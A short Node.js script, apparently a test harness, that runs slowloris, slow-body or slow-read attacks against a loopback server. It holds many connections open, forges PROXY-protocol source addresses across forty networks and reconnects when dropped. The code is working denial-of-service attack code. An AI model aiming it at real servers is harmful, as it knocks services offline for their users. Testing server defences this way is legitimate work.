// One slow attack, on loopback only: `node attack.mjs SHAPE PORT CONNECTIONS`. Whoever is closed connects again, as such tools do. Prints how many
// connections it has opened.
import { connect } from 'node:net'

const [shape, port, connections] = process.argv.slice(2)
const DRIP_MS = 2000
const HEAD = 'Host: site.example\r\n'
const BEGINNINGS = {
  slowloris: `GET /page HTTP/1.1\r\n${HEAD}X-A: `,
  'slow-body': `POST /form HTTP/1.1\r\n${HEAD}Content-Length: 40000\r\n\r\n`,
  'slow-read': `GET /large HTTP/1.1\r\n${HEAD}\r\n`
}
let opened = 0

for (let i = 0; i < Number(connections); i++) open(i)
setInterval(() => console.log(opened), 200)

// Forty networks of ten sources.
function open (i) {
  const socket = connect(Number(port), '127.0.0.1')
  let drip
  socket.on('connect', () => {
    opened++
    socket.write(`PROXY TCP4 203.0.${i % 40}.${Math.floor(i / 40) % 10} 127.0.0.1 4711 80\r\n${BEGINNINGS[shape]}`)
    if (shape === 'slow-read') socket.pause()
    else drip = setInterval(() => socket.write('a'), DRIP_MS + (i % 1000))
  })
  socket.on('error', () => {}) // closed by the edge: the end of it follows
  socket.on('close', () => {
    clearInterval(drip)
    setTimeout(open, 200 + (i % 800), i)
  })
}
